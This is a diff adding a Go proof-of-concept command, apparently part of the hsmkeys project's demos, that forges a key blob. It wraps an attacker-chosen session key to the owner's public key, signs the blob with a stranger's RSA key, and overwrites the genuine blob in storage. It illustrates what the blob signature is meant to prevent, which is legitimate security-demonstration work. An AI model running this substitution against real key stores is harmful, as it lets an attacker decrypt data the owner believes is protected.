@@ -1,0 +1,120 @@
+// Command attack carries out, for the demo, what the signature on a key blob is
+// there to stop. It uses what everybody with access to the storage has, and no
+// secret of anybody's: it makes a session key, wraps it to the owner's public
+// key, describes it exactly as the genuine blob describes its own, signs that
+// with a key of its own, and puts it in the genuine blob's place.
+//
+//	attack OWNER.pem STORE NAME
+package main
+
+import (
+	"context"
+	"crypto"
+	"crypto/rand"
+	"crypto/rsa"
+	"crypto/sha1"
+	"crypto/x509"
+	"encoding/pem"
+	"errors"
+	"fmt"
+	"log"
+	"os"
+	"path/filepath"
+	"time"
+
+	"github.com/hsmkeys/hsmkeys/blob"
+)
+
+func main() {
+	log.SetFlags(0)
+	log.SetPrefix("attack: ")
+	if len(os.Args) != 4 {
+		log.Fatal("usage: attack OWNER.pem STORE NAME")
+	}
+	if err := substitute(os.Args[1], os.Args[2], os.Args[3]); err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("-> %s is now a key that the stranger knows\n", os.Args[3])
+}
+
+func substitute(certificate, directory, name string) error {
+	owner, err := readOwner(certificate)
+	if err != nil {
+		return err
+	}
+	genuine, err := read(directory, name, owner)
+	if err != nil {
+		return err
+	}
+	key := make([]byte, genuine.Algorithm().KeySize())
+	if _, err := rand.Read(key); err != nil {
+		return err
+	}
+	wrapped, err := rsa.EncryptOAEP(sha1.New(), rand.Reader, owner, key, nil)
+	if err != nil {
+		return err
+	}
+	stranger, err := rsa.GenerateKey(rand.Reader, 3072)
+	if err != nil {
+		return err
+	}
+	content := blob.Content{Algorithm: genuine.Algorithm(), Recipients: []blob.Recipient{{
+		SubjectKeyID: genuine.Recipients()[0].SubjectKeyID,
+		Transport:    &blob.KeyTransport{OAEPHash: crypto.SHA1, EncryptedKey: wrapped},
+	}}}
+	forged, err := blob.Sign(genuine.Descriptor(), content, stranger, blob.RSAPSS, time.Now())
+	if err != nil {
+		return err
+	}
+	return os.WriteFile(filepath.Join(directory, blob.KeyPath(name, 1, 1)), forged, 0o600)
+}
+
+func readOwner(path string) (*rsa.PublicKey, error) {
+	data, err := os.ReadFile(path)
+	if err != nil {
+		return nil, err
+	}
+	block, _ := pem.Decode(data)
+	if block == nil {
+		return nil, fmt.Errorf("%q is not PEM", path)
+	}
+	c, err := x509.ParseCertificate(block.Bytes)
+	if err != nil {
+		return nil, err
+	}
+	key, ok := c.PublicKey.(*rsa.PublicKey)
+	if !ok {
+		return nil, errors.New("not an RSA key")
+	}
+	return key, nil
+}
+
+// read gives the genuine blob. It is all in the storage, and readable.
+func read(directory, name string, owner *rsa.PublicKey) (*blob.Blob, error) {
+	store, err := blob.OpenDir(directory)
+	if err != nil {
+		return nil, err
+	}
+	defer store.Close()
+	trusted := []crypto.PublicKey{owner}
+	der, err := store.Get(context.Background(), blob.MembersPath(1))
+	if err != nil {
+		return nil, err
+	}
+	list, err := blob.ParseMembers(der)
+	if err != nil {
+		return nil, err
+	}
+	members, err := list.Verify(trusted, 1)
+	if err != nil {
+		return nil, err
+	}
+	if der, err = store.Get(context.Background(), blob.KeyPath(name, 1, 1)); err != nil {
+		return nil, err
+	}
+	unverified, err := blob.Parse(der)
+	if err != nil {
+		return nil, err
+	}
+	return unverified.Verify(trusted, blob.Place{KeyringID: members.List().KeyringID, Name: name, Version: 1, Revision: 1})
+}
